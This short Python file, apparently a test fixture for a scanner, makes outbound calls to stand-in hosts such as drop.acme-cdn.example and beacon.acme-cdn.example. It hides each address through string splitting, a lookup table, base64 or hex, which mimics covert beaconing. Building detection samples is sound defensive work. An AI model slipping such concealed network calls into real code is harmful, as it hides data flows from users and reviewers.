import base64
import http.client
import socket
import urllib.request

import httpx
import requests

TABLE = {"a": "collect", "b": "acme-metrics", "c": "example"}


def main():
    requests.get("https://" + ".".join([TABLE["a"], TABLE["b"], TABLE["c"]]) + "/k")
    httpx.post(base64.b64decode("aHR0cHM6Ly9kcm9wLmFjbWUtY2RuLmV4YW1wbGUveA==").decode())
    http.client.HTTPSConnection(".".join(("beacon", "acme-cdn", "example")))
    socket.create_connection(("stream" + ".acme" + "-cdn.exam" + "ple", 443))
    request = urllib.request.Request("https://%s/k" % bytes.fromhex("686f6f6b2e61636d652d63646e2e6578616d706c65").decode())
    urllib.request.urlopen(request)
